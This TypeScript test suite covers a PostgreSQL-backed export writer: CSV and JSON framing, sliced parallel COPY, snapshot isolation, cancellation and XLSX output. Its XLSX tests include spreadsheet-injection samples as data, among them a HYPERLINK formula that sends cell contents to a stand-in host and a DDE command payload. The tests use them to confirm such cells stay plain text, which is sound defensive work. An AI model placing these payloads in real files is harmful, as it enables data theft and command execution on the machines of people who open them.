/** The streaming writer: row counting across chunk boundaries, JSON framing and spreadsheet cells, on real COPY output. */
import assert from 'node:assert/strict';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import type pg from 'pg';
import { createPool } from '../src/db/database.ts';
import { testDatabase } from './helpers/db.ts';
import { buildExportQuery, type ExportQuery } from '../src/exports/query.ts';
import type { ExportDef } from '../src/exports/catalog/types.ts';
import { conversation } from '../src/exports/catalog/conversation.ts';
import { conversationActions, conversationHistoryAction } from '../src/exports/catalog/conversation-actions.ts';
import { incomingPost } from '../src/exports/catalog/posts.ts';
import { parseExportRequest } from '../src/exports/request.ts';
import { openSheetWriter, SheetFullError } from '../src/exports/sheet.ts';
import { copyOut } from '../src/exports/copy-out.ts';
import { ExportRead, ONE_PASS_ROWS, type SliceOptions, type WriteOptions } from '../src/exports/writer.ts';

const url = await testDatabase();

/** Collects what the pipeline writes. */
function sink(): { stream: Writable; text: () => string; bytes: () => Buffer } {
  const parts: Buffer[] = [];
  const bytes = () => Buffer.concat(parts);
  return { stream: new Writable({ write(chunk: Buffer, _e, cb) { parts.push(chunk); cb(); } }), text: () => bytes().toString('utf8'), bytes };
}

const rowsSql = `SELECT n::text AS "N", CASE WHEN n % 3 = 0 THEN E'multi\\nline, "quoted"' WHEN n % 3 = 1 THEN 'plain ☕' END AS "V" FROM generate_series(1, 2000) n ORDER BY n`;
const jsonSql = `SELECT '{"N":' || to_json(n::text)::text || ',"V":' || to_json(coalesce(CASE WHEN n % 2 = 0 THEN E'a\\nb "c" \\\\ é 😀' END, ''))::text || '},' FROM generate_series(1, 2000) n ORDER BY n`;

/** A query of which a test fills the part it exports. */
const query = (q: Partial<ExportQuery>): ExportQuery => ({ rows: '', jsonRows: '', count: '', estimate: '', sheet: { name: 'export', rows: '', columns: [], dateFormat: '' }, ...q });

/** A pool of its own for one test, made as the service makes its pool. */
async function withClient(fn: (pool: pg.Pool) => Promise<void>): Promise<void> {
  const pool = createPool(url, 10);
  try {
    await fn(pool);
  } finally {
    await pool.end();
  }
}

/** Connections from `pool` whose every query text is added to `sent`. */
function spied(pool: pg.Pool, sent: string[]) {
  return {
    async connect() {
      const client = await pool.connect();
      const query = client.query.bind(client) as (...a: unknown[]) => unknown;
      client.query = ((...a: unknown[]) => {
        if (typeof a[0] === 'string') sent.push(a[0]);
        return query(...a);
      }) as typeof client.query;
      return client;
    },
  };
}

/** Exports `q` into `out` in one read, as the worker does; the rows written. */
async function writeExport(pool: pg.Pool, q: ExportQuery, out: Writable, opts: WriteOptions): Promise<number> {
  const read = await ExportRead.open(pool, undefined);
  let failed = true;
  try {
    const { rows } = await read.write(q, out, opts);
    failed = false;
    return rows;
  } finally {
    await read.release(failed);
  }
}

describe('a COPY over a pooled connection', () => {
  // A connection not handed back whole would never answer again: the timeout fails the test rather than hang it.
  it('streams the rows, then the connection serves the next query', { timeout: 10_000 }, () =>
    withClient(async (pool) => {
      const client = await pool.connect();
      try {
        const out = sink();
        await pipeline(copyOut(client, `COPY (${rowsSql}) TO STDOUT WITH (FORMAT csv, HEADER true)`), out.stream);
        const expected = (await client.query<{ N: string; V: string | null }>(rowsSql)).rows;
        assert.deepEqual(parse(out.bytes(), { columns: true }), expected.map((r) => ({ N: r.N, V: r.V ?? '' })));
        // Twice on one connection: the first COPY handed it back whole.
        const again = sink();
        await pipeline(copyOut(client, `COPY (${rowsSql}) TO STDOUT WITH (FORMAT csv, HEADER true)`), again.stream);
        assert.ok(again.bytes().equals(out.bytes()));
        assert.equal((await client.query<{ one: number }>('SELECT 1 AS one')).rows[0]!.one, 1);
      } finally {
        client.release();
      }
    }));

  it('fails with the server\'s error when the query fails amid its rows, and the connection still serves', { timeout: 10_000 }, () =>
    withClient(async (pool) => {
      const client = await pool.connect();
      try {
        const out = sink();
        // The error comes after some 100 kB of rows, in a later chunk than the first rows.
        const failing = `COPY (SELECT repeat('x', 100) || CASE WHEN n < 1000 THEN n ELSE n / (n - n) END FROM generate_series(1, 2000) n) TO STDOUT`;
        await assert.rejects(pipeline(copyOut(client, failing), out.stream), (e: Error & { code?: string }) => e.code === '22012');
        // What came before the error is the first rows, whole and in order.
        const lines = out.text().split('\n').slice(0, -1);
        assert.ok(lines.length > 0 && lines.length <= 999 && lines.every((line, i) => line === `${'x'.repeat(100)}${i + 1}`), `${lines.length} rows`);
        assert.equal((await client.query<{ one: number }>('SELECT 1 AS one')).rows[0]!.one, 1);
      } finally {
        client.release();
      }
    }));
});

describe('writeExport', () => {
  it('CSV: counts records, not lines, with quoted newlines', () =>
    withClient(async (client) => {
      const out = sink();
      let seen = 0;
      const n = await writeExport(client, query({ rows: rowsSql }), out.stream, { format: 'csv', onRows: (r) => (seen = r) });
      assert.equal(n, 2000);
      assert.equal(seen, 2000);
      const text = out.text();
      assert.ok(text.startsWith('N,V\n1,plain ☕\n2,\n3,"multi\nline, ""quoted"""\n'));
      const records = parse<Record<string, string>>(text, { columns: true });
      assert.equal(records.length, n, 'the count matches what a CSV parser reads');
      assert.deepEqual(records[999], { N: '1000', V: 'plain ☕' });
      assert.deepEqual(records[1997], { N: '1998', V: 'multi\nline, "quoted"' });
    }));
  it('JSON: one array, every row an object, parseable, counted', () =>
    withClient(async (client) => {
      const out = sink();
      const n = await writeExport(client, query({ jsonRows: jsonSql }), out.stream, { format: 'json' });
      assert.equal(n, 2000);
      const parsed = JSON.parse(out.text()) as { N: string; V: string }[];
      assert.equal(parsed.length, 2000);
      assert.deepEqual(parsed[1], { N: '2', V: 'a\nb "c" \\ é 😀' });
      assert.deepEqual(parsed[0], { N: '1', V: '' });
    }));
  it('a large export reaches its destination in a few large writes, its progress row by row as it comes', () =>
    withClient(async (client) => {
      // About 4 MB, which the server sends in 8 KB flushes.
      const sql = `SELECT n::text AS "N", repeat(chr(97 + n % 26), 200) AS "V" FROM generate_series(1, 20000) n ORDER BY n`;
      const writes: number[] = [];
      const parts: Buffer[] = [];
      const out = new Writable({ write(chunk: Buffer, _e, cb) { writes.push(chunk.length); parts.push(chunk); cb(); } });
      const progress: number[] = [];
      const n = await writeExport(client, query({ rows: sql }), out, { format: 'csv', onRows: (r) => progress.push(r) });
      assert.equal(n, 20_000);
      const bytes = Buffer.concat(parts);
      const records = parse<{ N: string; V: string }>(bytes, { columns: true });
      assert.equal(records.length, 20_000);
      assert.deepEqual(records[19_998], { N: '19999', V: String.fromCharCode(97 + (19_999 % 26)).repeat(200) });
      assert.ok(bytes.length > 4_000_000, `${bytes.length} bytes`);
      // Not the server's 8 KB flushes: batches of over 128 KiB on average.
      assert.ok(writes.length <= bytes.length / (128 * 1024), `${writes.length} writes of ${bytes.length} bytes`);
      assert.ok(progress.length > 2 * writes.length, `progress reported ${progress.length} times, in ${writes.length} writes`);
      assert.equal(progress.at(-1), 20_000);
    }));
  it('JSON with no rows is an empty array', () =>
    withClient(async (client) => {
      const out = sink();
      const n = await writeExport(client, query({ jsonRows: `SELECT '{}' WHERE false` }), out.stream, { format: 'json' });
      assert.equal(n, 0);
      assert.deepEqual(JSON.parse(out.text()), []);
    }));
});

describe('writeExport, xlsx', () => {
  /** Text a spreadsheet must keep as text: formulas, DDE, signs, escapes, XML, whitespace, control characters. */
  const TEXTS = [
    '=SUM(A1:A9)', '=HYPERLINK("http://x.example/?d="&A1,"open")', "=cmd|' /C calc'!A0", '+1', '-2', '@SUM(1)', '\tTAB', '\rCR',
    '  both ends  ', `a<b>&"c"'d`, 'multi\nline', 'ümlaut ☕ 😀', '_x0041_', 'x\u0001y\u007f', '0123', '1E5', 'TRUE',
  ];
  const literal = (t: string) => `'${t.replaceAll("'", "''")}'`;
  // 03:30:00.123 on 2019-03-10, wall clock; each text row a day later.
  const WALL = Date.UTC(2019, 2, 10, 3, 30, 0, 123);
  const DAY = 86_400_000;
  const sheetSql = `
    WITH v(i, t, n, w) AS (
      VALUES ${TEXTS.map((t, i) => `(${i}, ${literal(t)}, ${i * 1_000_000_000 - 5}, ${WALL + i * DAY})`).join(', ')}
      UNION ALL SELECT 100, '', NULL, NULL
      UNION ALL SELECT 100 + g, 'row ' || g, g, ${WALL} FROM generate_series(1, 2000) g)
    SELECT '[' || coalesce(to_json(t)::text, 'null') || ',' || coalesce(to_json(n)::text, 'null') || ',' || coalesce(to_json(w)::text, 'null') || ']' FROM v ORDER BY i`;
  const sheet = { name: 'export', rows: sheetSql, columns: [{ name: 'T', cell: 'text' }, { name: 'N', cell: 'number' }, { name: 'W', cell: 'date' }] as const, dateFormat: 'yyyy-mm-dd hh:mm:ss.000' };

  /** The cell at row r, column c (0-based) of a sheet. */
  const at = (ws: XLSX.WorkSheet, r: number, c: number) => ws[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject | undefined;
  /** Epoch milliseconds of a date cell's serial, read as wall-clock UTC (serial 25569 is 1970-01-01). */
  const serialMs = (v: unknown) => Math.round(((v as number) - 25569) * DAY);

  it('strings stay strings (never formulas), numbers numbers, times dates; header frozen; read back by SheetJS', () =>
    withClient(async (client) => {
      const out = sink();
      let seen = 0;
      const n = await writeExport(client, query({ sheet }), out.stream, { format: 'xlsx', onRows: (r) => (seen = r) });
      assert.equal(n, TEXTS.length + 1 + 2000);
      assert.equal(seen, n);
      const wb = XLSX.read(out.bytes(), { type: 'buffer', cellFormula: true, cellNF: true, bookFiles: true });
      assert.deepEqual(wb.SheetNames, ['export']);
      const ws = wb.Sheets['export']!;
      assert.equal(ws['!ref'], `A1:C${n + 1}`);
      assert.deepEqual([0, 1, 2].map((c) => [at(ws, 0, c)?.t, at(ws, 0, c)?.v]), [['s', 'T'], ['s', 'N'], ['s', 'W']]);
      for (const [i, text] of TEXTS.entries()) {
        const [t, num, time] = [0, 1, 2].map((c) => at(ws, i + 1, c));
        assert.deepEqual([t?.t, t?.v], ['s', text], `text ${JSON.stringify(text)} is a string cell`);
        assert.deepEqual([num?.t, num?.v, num?.z], ['n', i * 1_000_000_000 - 5, '0'], `number of row ${i}`);
        const expectedWall = new Date(WALL + i * DAY).toISOString().replace('T', ' ').slice(0, 23);
        assert.deepEqual([time?.t, serialMs(time?.v), time?.z, time?.w], ['n', WALL + i * DAY, sheet.dateFormat, expectedWall], `time of row ${i}`);
      }
      assert.deepEqual([0, 1, 2].map((c) => at(ws, TEXTS.length + 1, c)?.v), [undefined, undefined, undefined], 'an empty text and nulls are empty cells');
      for (let g = 1; g <= 2000; g++) {
        const r = TEXTS.length + 1 + g;
        assert.deepEqual([at(ws, r, 0)?.v, at(ws, r, 1)?.v, serialMs(at(ws, r, 2)?.v)], [`row ${g}`, g, WALL], `generated row ${g}`);
      }
      for (const [ref, cell] of Object.entries(ws)) if (!ref.startsWith('!')) assert.equal((cell as XLSX.CellObject).f, undefined, `${ref} has no formula`);
      const xml = ((wb as unknown as { files: Record<string, { content: Buffer }> }).files['xl/worksheets/sheet1.xml']!).content.toString('utf8');
      assert.match(xml, /<pane [^>]*ySplit="1"[^>]*state="frozen"/, 'the header row is frozen');
      assert.doesNotMatch(xml, /<f[ >]/, 'the sheet XML holds no formula');
      // A formula's cached string (t="str") loses its spaces and its _xHHHH_ escapes in LibreOffice; an inline string keeps them.
      const data = xml.slice(xml.indexOf('<row r="2"'));
      assert.match(data, /<c r="A2"[^>]*t="inlineStr"><is><r><t>=SUM\(A1:A9\)<\/t><\/r><\/is><\/c>/);
      assert.doesNotMatch(data, /t="str"/, 'no text as a formula result');
    }));

  it('more rows than the sheet may hold fail the file, never cut it short', async () => {
    const out = sink();
    const writer = await openSheetWriter(out.stream, { name: 'export', rows: '', columns: [{ name: 'N', cell: 'number' }], dateFormat: '' }, { maxRows: 3 });
    const lines = Readable.from([Buffer.from('[1]\n[2]\n[3]\n'), Buffer.from('[4]\n')]);
    await assert.rejects(pipeline(lines, writer), (e: Error) => e instanceof SheetFullError && /more than the 3 data rows one xlsx sheet holds/.test(e.message));
    assert.equal(writer.rows, 3);
  });
});

describe('sliced exports: parallel parts on one snapshot', () => {
  const zones = { resolveZone: (z: string) => (z === 'America/Chicago' ? 'America/Chicago' : undefined) };
  // Two months of the demo data, in a zone with a daylight-saving change (the boundaries are times written in it).
  const raw = { companyKey: ['demo'], startTime: [String(Date.UTC(2019, 1, 1))], endTime: [String(Date.UTC(2019, 3, 1))], timezone: ['America/Chicago'] };
  const demoQuery = async (pool: pg.Pool, def: ExportDef, format: 'csv' | 'json') => {
    const { rows } = await pool.query<{ company_id: string }>(`SELECT id AS company_id FROM companies WHERE key = 'demo'`);
    const req = parseExportRequest(def, { ...raw, reportFormat: [format], ...(def === conversation ? { conversationReportType: ['CREATED'] } : {}) }, zones);
    return { req, query: buildExportQuery(def, req, { companyId: rows[0]!.company_id }, 'ISO_8601') };
  };
  /** The export's bytes and rows, written as the worker writes them. */
  const exportBytes = async (pool: pg.Pool, def: ExportDef, format: 'csv' | 'json', { slices, ...opts }: Omit<WriteOptions, 'format'> & { slices?: SliceOptions } = {}) => {
    const { req, query } = await demoQuery(pool, def, format);
    const read = await ExportRead.open(pool, req.zone, { slices });
    let failed = true;
    try {
      const total = await read.count(query, format);
      const out = sink();
      const written = await read.write(query, out.stream, { format, ...opts });
      failed = false;
      return { bytes: out.bytes(), total, ...written };
    } finally {
      await read.release(failed);
    }
  };

  for (const def of [conversation, conversationActions, conversationHistoryAction]) {
    for (const format of ['csv', 'json'] as const) {
      it(`${def.id} ${format}: the same bytes in 2, 3 and 7 slices as in one COPY`, () =>
        withClient(async (pool) => {
          const whole = await exportBytes(pool, def, format);
          assert.equal(whole.slices, 1);
          assert.ok(whole.rows > 500, `the range has rows (${whole.rows})`);
          assert.equal(whole.rows, whole.total);
          for (const k of [2, 3, 7]) {
            const sliced = await exportBytes(pool, def, format, { slices: { max: k, minRows: 2 } });
            assert.ok(sliced.slices > 1 && sliced.slices <= k, `${k} slices asked, ${sliced.slices} used`);
            assert.equal(sliced.rows, whole.rows, `rows counted across ${k} slices`);
            assert.equal(sliced.total, whole.total, `the count before ${k} slices`);
            assert.ok(sliced.bytes.equals(whole.bytes), `the file of ${k} slices is the file of one COPY`);
          }
          // An independent reading of the file: as many records as rows.
          const records = format === 'csv' ? parse(whole.bytes, { columns: true }).length : (JSON.parse(whole.bytes.toString('utf8')) as unknown[]).length;
          assert.equal(records, whole.rows);
        }));
    }
  }

  it('JSON is byte for byte the CSV file\'s records as objects: keys in column order, every value a string, no spaces', () =>
    withClient(async (pool) => {
      for (const def of [conversation, conversationActions, incomingPost]) {
        const csv = await exportBytes(pool, def, 'csv');
        const json = await exportBytes(pool, def, 'json', { slices: { max: 3, minRows: 2 } });
        const records = parse<Record<string, string>>(csv.bytes, { columns: true });
        assert.ok(records.length > 500, `${def.id} has rows`);
        if (def === incomingPost) {
          const texts = records.flatMap((r) => Object.values(r)).join('');
          for (const [what, re] of [['a quote', /"/], ['a newline', /\n/], ['an accent', /[éüöçğı]/], ['an emoji', /\p{Extended_Pictographic}/u]] as const) {
            assert.match(texts, re, `the posts carry ${what}, which JSON escapes or keeps`);
          }
        }
        assert.equal(json.bytes.toString('utf8'), `[\n${records.map((r) => JSON.stringify(r)).join(',\n')}\n]\n`, def.id);
      }
    }));
  it('the count samples the boundaries in its own pass when the planner expects many rows; else, or when the sample came out too small, write() samples them', async () => {
    const series = 'generate_series(1, 60000) g(n)';
    const numbers = (cond: string) => `SELECT n::text AS "N" FROM ${series} WHERE ${cond} ORDER BY n`;
    /** Rows 1…60000, for which the planner expects `expected` rows. */
    const q = (expected: number) =>
      query({
        rows: numbers('true'),
        count: `SELECT count(*) AS n FROM ${series}`,
        estimate: `SELECT 1 FROM generate_series(1, ${expected})`,
        slicing: {
          key: 'g.n',
          sample: (k, fraction) =>
            `SELECT count(*) AS n, (percentile_disc(ARRAY(SELECT i::float8 / ${k} FROM generate_series(1, ${k - 1}) i)) WITHIN GROUP (ORDER BY g.n) FILTER (WHERE random() < ${fraction}))::text[] AS bounds FROM ${series}`,
          part: (cond) => ({ rows: numbers(cond), jsonRows: '' }),
        },
      });
    const whole = `N\n${Array.from({ length: 60000 }, (_, i) => `${i + 1}\n`).join('')}`;
    for (const [expected, minRows, counts, samples] of [
      [ONE_PASS_ROWS, 2, 0, 1], // sampled while counting, a tenth of the rows expected
      [ONE_PASS_ROWS / 4, 2, 1, 1], // too few expected for one pass (its sample would be more than a tenth): counted alone, sampled by write()
      [10, 5000, 1, 1], // too few rows expected to slice: the same
      [10_000_000, 2, 0, 2], // a sample sized for 10M rows holds some 120 of these 60,000: taken again
    ] as const) {
      await withClient(async (pool) => {
        const sent: string[] = [];
        const read = await ExportRead.open(spied(pool, sent), undefined, { slices: { max: 3, minRows } });
        const out = sink();
        try {
          const exportQuery = q(expected);
          assert.equal(await read.count(exportQuery, 'csv'), 60000);
          const written = await read.write(exportQuery, out.stream, { format: 'csv' });
          assert.equal(written.slices, 3);
          assert.equal(written.rows, 60000);
        } finally {
          await read.release(false);
        }
        assert.equal(out.text(), whole, `expected ${expected}`);
        assert.equal(sent.filter((s) => s.startsWith('SELECT count(*) AS n FROM generate')).length, counts, `counts alone, expected ${expected}`);
        assert.equal(sent.filter((s) => s.includes('percentile_disc')).length, samples, `samples, expected ${expected}`);
      });
    }
    // A sheet is written in one piece: its count samples nothing, however many rows the planner expects.
    await withClient(async (pool) => {
      const sent: string[] = [];
      const read = await ExportRead.open(spied(pool, sent), undefined, { slices: { max: 3, minRows: 2 } });
      assert.equal(await read.count(q(ONE_PASS_ROWS), 'xlsx'), 60000);
      await read.release(false);
      assert.deepEqual(sent.filter((s) => /EXPLAIN|percentile_disc/.test(s)), []);
    });
  });
  it('every slice reads with the export\'s work_mem and zone; without a work_mem, the server\'s', () =>
    withClient(async (pool) => {
      // Each part reports the settings of the connection that copies it.
      const settings = `SELECT current_setting('work_mem') AS "W", current_setting('TimeZone') AS "Z"`;
      const q = query({ slicing: { key: 'x.k', sample: () => '', part: () => ({ rows: settings, jsonRows: '' }) } });
      const copy = async (settings: { workMemMb?: number }) => {
        const read = await ExportRead.open(pool, { kind: 'iana', id: 'America/Chicago' }, settings);
        const out = sink();
        const written = await read.write(q, out.stream, { format: 'csv', boundaries: ['1', '2'] }).finally(() => read.release(false));
        assert.equal(written.slices, 3);
        return out.text();
      };
      assert.equal(await copy({ workMemMb: 37 }), 'W,Z\n37MB,America/Chicago\n37MB,America/Chicago\n37MB,America/Chicago\n');
      const serverDefault = (await pool.query<{ work_mem: string }>('SHOW work_mem')).rows[0]!.work_mem;
      assert.notEqual(serverDefault, '37MB');
      assert.equal(await copy({}), `W,Z\n${`${serverDefault},America/Chicago\n`.repeat(3)}`);
    }));
  it('empty slices (first, middle, last, and all of them) change nothing', () =>
    withClient(async (pool) => {
      for (const format of ['csv', 'json'] as const) {
        const whole = await exportBytes(pool, conversation, format);
        const inside = ['2019-02-10 00:00:00+00', '2019-03-01 00:00:00+00'];
        for (const boundaries of [
          ['1990-01-01 00:00:00+00', ...inside],
          [inside[0]!, '2019-02-10 00:00:00.000001+00', inside[1]!],
          [...inside, '2100-01-01 00:00:00+00'],
          ['1990-01-01 00:00:00+00', '1991-01-01 00:00:00+00', '2100-01-01 00:00:00+00'],
        ]) {
          const sliced = await exportBytes(pool, conversation, format, { boundaries });
          assert.equal(sliced.slices, 4);
          assert.equal(sliced.rows, whole.rows);
          assert.ok(sliced.bytes.equals(whole.bytes), `${format} with boundaries ${boundaries.join(' | ')}`);
        }
        const none = { ...raw, startTime: [String(Date.UTC(2010, 0, 1))], endTime: [String(Date.UTC(2010, 1, 1))] };
        const { rows } = await pool.query<{ company_id: string }>(`SELECT id AS company_id FROM companies WHERE key = 'demo'`);
        const req = parseExportRequest(conversation, { ...none, reportFormat: [format], conversationReportType: ['CREATED'] }, zones);
        const q = buildExportQuery(conversation, req, { companyId: rows[0]!.company_id }, 'ISO_8601');
        const read = await ExportRead.open(pool, req.zone);
        const out = sink();
        const empty = await read.write(q, out.stream, { format, boundaries: ['2010-01-10 00:00:00+00', '2010-01-20 00:00:00+00'] }).finally(() => read.release(false));
        assert.equal(empty.rows, 0);
        assert.equal(out.text(), format === 'json' ? '[]\n' : `${req.columns.map((c) => c).join(',')}\n`, 'no rows: the empty array, or the header alone');
      }
    }));

  it('rows committed after the snapshot, in any slice, are not in the file', () =>
    withClient(async (pool) => {
      const before = await exportBytes(pool, conversation, 'csv');
      const { req, query } = await demoQuery(pool, conversation, 'csv');
      const read = await ExportRead.open(pool, req.zone, { slices: { max: 3, minRows: 2 } });
      let inserted = false;
      const parts: Buffer[] = [];
      const out = new Writable({
        write(chunk: Buffer, _e, cb) {
          parts.push(chunk);
          if (inserted) return cb();
          inserted = true;
          // Every slice is copying by now; new conversations at the start, middle and end of the range commit.
          pool
            .query(
              `INSERT INTO conversations (company_id, conversation_id, display_id, network, status, priority, author_id, created_at)
               SELECT id, 900000000 + g, 'late-' || g, 'TWITTER', 'OPEN', 1, 1, timestamptz '2019-02-01 00:00:01+00' + (g * interval '9 days')
                 FROM companies, generate_series(0, 6) g WHERE key = 'demo'`,
            )
            .then(() => cb(), cb);
        },
      });
      try {
        await read.count(query, 'csv');
        const written = await read.write(query, out, { format: 'csv' });
        assert.equal(written.slices, 3);
        assert.ok(inserted);
        assert.equal(written.rows, before.rows);
        assert.ok(Buffer.concat(parts).equals(before.bytes), 'the file is the export as it stood when its snapshot was taken');
      } finally {
        await read.release(false);
      }
      const after = await exportBytes(pool, conversation, 'csv', { slices: { max: 3, minRows: 2 } });
      assert.equal(after.rows, before.rows + 7, 'a new export has them');
    }));

  it('a failed or cancelled export stops every slice and gives back no connection mid-COPY', () =>
    withClient(async (pool) => {
      const { req, query } = await demoQuery(pool, conversation, 'json');
      const read = await ExportRead.open(pool, req.zone, { slices: { max: 3, minRows: 2 } });
      const cancel = new AbortController();
      const out = new Writable({ write: (_chunk: Buffer, _e, cb) => { cancel.abort(new Error('cancelled')); cb(); } });
      await read.count(query, 'json');
      await assert.rejects(read.write(query, out, { format: 'json', signal: cancel.signal }));
      await read.release(true);
      // The pool still serves, and the server runs no leftover COPY of this database.
      await waitFor(async () => (await pool.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE 'COPY%'`)).rows[0].n === 0);
      const again = await exportBytes(pool, conversation, 'json', { slices: { max: 3, minRows: 2 } });
      assert.equal(again.slices, 3);
    }));

  it('a file that cannot be written fails the export with its own error, in slices as in one piece', () =>
    withClient(async (pool) => {
      const { req, query } = await demoQuery(pool, conversation, 'csv');
      for (const max of [1, 3]) {
        const read = await ExportRead.open(pool, req.zone, { slices: { max, minRows: 2 } });
        const out = new Writable({ write: (_chunk: Buffer, _e, cb) => cb(Object.assign(new Error('no space left on device'), { code: 'ENOSPC' })) });
        await read.count(query, 'csv');
        await assert.rejects(read.write(query, out, { format: 'csv' }), (e: Error & { code?: string }) => e.code === 'ENOSPC');
        await read.release(true);
      }
    }));

  it('a cancel after every slice has been copied still stops the file being written', { timeout: 10_000 }, () =>
    withClient(async (pool) => {
      const { req, query } = await demoQuery(pool, conversation, 'csv');
      const read = await ExportRead.open(pool, req.zone, { slices: { max: 3, minRows: 2 } });
      const total = await read.count(query, 'csv');
      let rows = 0;
      let ended = false;
      // Takes every byte, but never finishes storing them (a store that stopped answering at the end).
      const out = new Writable({ write: (_chunk: Buffer, _e, cb) => cb(), final: () => void (ended = true) });
      const cancel = new AbortController();
      const writing = read.write(query, out, { format: 'csv', signal: cancel.signal, onRows: (n) => (rows = n) });
      writing.catch(() => undefined);
      await waitFor(() => Promise.resolve(ended));
      assert.equal(rows, total, 'every slice was copied');
      cancel.abort(new Error('cancelled by the user'));
      await assert.rejects(writing, /cancelled by the user/);
      await read.release(true);
    }));
});

/** Resolves once `check` holds; fails after 5 s. */
async function waitFor(check: () => Promise<boolean>): Promise<void> {
  const until = Date.now() + 5000;
  while (!(await check())) {
    if (Date.now() > until) throw new Error('condition not met within 5 s');
    await new Promise((r) => setTimeout(r, 20));
  }
}
